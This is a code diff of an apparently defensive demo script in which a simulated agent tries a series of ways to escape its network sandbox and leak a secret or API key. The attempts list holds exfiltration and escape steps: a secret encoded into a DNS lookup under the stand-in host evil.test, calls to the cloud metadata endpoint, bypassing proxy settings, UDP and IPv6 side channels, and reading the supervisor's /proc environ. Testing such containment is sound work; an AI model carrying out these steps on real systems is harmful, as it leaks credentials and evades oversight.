@@ -1,4 +1,4 @@
-"""A small agent that does what it is for, and then tries to get round its jail. Run by `make demo`."""
+"""A small agent that does its work, with a key that it does not hold, and then tries to get out. Run by `make demo`."""
 
 from __future__ import annotations
 
@@ -9,15 +9,16 @@ import urllib.error
 import urllib.request
 from collections.abc import Callable
 
-GOOD, EVIL = "api.good.test", "evil.test"
-SECRET = "c2VjcmV0"  # what a program that got hold of something would carry out in a name
+GOOD, KEYED, EVIL = "api.good.test", "keyed.good.test", "evil.test"
+STOLEN = "c2VjcmV0"  # what a program that got hold of something would carry out in a name
 
 
-def fetch(url: str, *, use_proxy: bool = True) -> str:
+def fetch(url: str, *, use_proxy: bool = True, key: str = "") -> str:
     """An ordinary HTTP client; with `use_proxy=False` one that has never heard of proxy variables."""
     handlers = [] if use_proxy else [urllib.request.ProxyHandler({})]
+    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {key}"} if key else {})
     try:
-        with urllib.request.build_opener(*handlers).open(url, timeout=10) as answer:
+        with urllib.request.build_opener(*handlers).open(request, timeout=10) as answer:
             return f"{answer.status} {answer.read().decode().strip()}"
     except urllib.error.HTTPError as error:
         return f"{error.code} {error.read().decode().strip()}"
@@ -46,7 +47,7 @@ def send_datagram(address: str, port: int) -> str:
     family = socket.AF_INET6 if ":" in address else socket.AF_INET
     with socket.socket(family, socket.SOCK_DGRAM) as sender:
         try:
-            sender.sendto(SECRET.encode(), (address, port))
+            sender.sendto(STOLEN.encode(), (address, port))
         except OSError as error:
             return str(error)
     return "sent"
@@ -60,8 +61,12 @@ def read_file(path: str) -> str:
         return str(error)
 
 
-def attempts(port: int, watched: str) -> list[tuple[str, Callable[[], str]]]:
+def attempts(port: int, tls_port: int, watched: str) -> list[tuple[str, Callable[[], str]]]:
+    key = os.environ["API_KEY"]
     return [
+        ("its key", lambda: key),
+        ("what an API repeats of a call with the key", lambda: fetch(f"https://{KEYED}:{tls_port}/", key=key)),
+        ("the key to another host that is allowed", lambda: fetch(f"http://{GOOD}:{port}/", key=key)),
         ("an allowed call, through the proxy variables", lambda: fetch(f"http://{GOOD}:{port}/")),
         ("an allowed call, ignoring the proxy variables", lambda: fetch(f"http://{GOOD}:{port}/", use_proxy=False)),
         ("another host", lambda: fetch(f"http://{EVIL}:{port}/")),
@@ -69,7 +74,7 @@ def attempts(port: int, watched: str) -> list[tuple[str, Callable[[], str]]]:
         ("the server's bare address", lambda: connect("203.0.113.9", 443)),
         ("the machine's own loopback", lambda: connect("127.0.0.1", port)),
         ("the cloud's metadata", lambda: fetch("http://169.254.169.254/latest/meta-data/", use_proxy=False)),
-        ("a secret in a DNS name", lambda: look_up(f"{SECRET}.{EVIL}")),
+        ("a secret in a DNS name", lambda: look_up(f"{STOLEN}.{EVIL}")),
         ("IPv6", lambda: connect("2001:db8::1", 443)),
         ("UDP, as QUIC uses it", lambda: send_datagram("203.0.113.9", 443)),
         ("the memory of exeat itself", lambda: read_file(f"/proc/{watched}/environ")),
@@ -77,10 +82,10 @@ def attempts(port: int, watched: str) -> list[tuple[str, Callable[[], str]]]:
 
 
 def main() -> None:
-    port, watched = int(sys.argv[1]), sys.argv[2]
+    port, tls_port, watched = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
     print(f"uid {os.getuid()}, process {os.getpid()} of its own PID namespace")
-    for what, attempt in attempts(port, watched):
-        print(f"  {what:46} {attempt()[:70]}", flush=True)
+    for what, attempt in attempts(port, tls_port, watched):
+        print(f"  {what:46} {attempt()[:80]}", flush=True)
 
 
 if __name__ == "__main__":
